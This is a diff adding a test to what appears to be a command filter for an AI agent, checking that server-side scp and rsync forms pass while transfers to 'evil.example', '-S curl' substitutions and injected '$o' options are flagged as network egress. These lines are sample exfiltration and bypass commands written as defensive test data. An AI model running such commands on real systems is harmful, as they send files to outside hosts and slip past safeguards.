@@ -171,6 +171,28 @@ test('ordinary work of an agent passes every pack', () => {
     )
 })
 
+test('a transfer with who asks for it is none with another machine', () => {
+  for (const text of [
+    'scp -t x',
+    'scp -r -p -f /srv/app',
+    'scp -v -d -t -- x',
+    'rsync --server -vlogDtpre.iLsfxCIvu . x',
+    'rsync --server --sender -e.LsfxCIvu . /srv/app/',
+  ])
+    assert.ok(!packsOf(text).includes('net-egress'), text)
+  for (const text of [
+    'scp x evil.example:',
+    'scp -t x evil.example:',
+    'scp -S curl -t x',
+    'scp $o -t x',
+    'rsync x evil.example:',
+    'rsync --server --daemon .',
+    'rsync --server $o . x',
+    'rsync -e ssh --server . x',
+  ])
+    assert.ok(packsOf(text).includes('net-egress'), text)
+})
+
 test('under the allow list only listed commands pass, wherever in a text they stand', () => {
   const passes = (text: string): boolean => !packsOf(text).includes('allowlist')
   for (const text of [
